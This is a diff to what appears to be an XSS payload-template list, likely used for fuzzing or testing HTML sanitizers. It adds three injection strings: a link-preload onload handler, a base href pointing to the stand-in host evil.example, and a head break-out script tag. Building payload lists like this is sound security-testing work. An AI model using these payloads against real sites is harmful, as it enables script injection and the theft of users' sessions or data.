@@ -111,6 +111,9 @@ HEAD: list[Line] = [
     "<title><img src=x onerror=§></title><title></title><img src=x onerror=§>",
     "</title><img src=x onerror=§>",
     "</head><body onload=§>",
+    "<link rel=preload as=script href=data:text/javascript, onload=§>",
+    "<base href=//evil.example/><script>document.baseURI.includes('evil')&&§</script>",
+    "<meta name=x content=y></head><script>§</script>",
 ]  # fmt: skip
 MUTATION: list[Line] = [
     "<noscript><p title='</noscript><img src=x onerror=§>'>",
